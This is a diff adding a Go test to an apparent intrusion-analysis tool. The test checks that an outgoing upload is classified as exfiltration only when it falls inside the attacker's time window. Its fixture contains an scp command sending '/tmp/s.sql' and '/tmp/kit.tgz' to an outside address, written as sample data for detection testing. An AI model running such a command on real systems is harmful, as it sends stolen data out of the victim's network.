@@ -99,3 +99,17 @@ func TestWhatToWatch(t *testing.T) {
 		}
 	}
 }
+
+func TestADumpThatWasSent(t *testing.T) {
+	up := outgoing("bob", "", "upload", "203.0.113.9", "scp /tmp/s.sql /tmp/kit.tgz x@203.0.113.9:", "03:02:00")
+	up.Views = []string{"/tmp/s.sql", "/tmp/kit.tgz"}
+	s := Build(t.Context(), []detect.Finding{guessed("03:00:00", "03:10:00"), up}, full())
+	check(t, &s)
+	if got := told(&s); got != "taken confirmed /tmp/s.sql as bob" || len(s.Impact) != 1 || s.Impact[0].What != "exfiltration" {
+		t.Errorf("%s; %+v", got, s.Impact)
+	}
+	s = Build(t.Context(), []detect.Finding{guessed("04:00:00", "04:10:00"), up}, full()) // before he came
+	if len(s.Exposed)+len(s.Impact)+len(s.Contacted) != 0 {
+		t.Errorf("%+v", s.Exposed)
+	}
+}
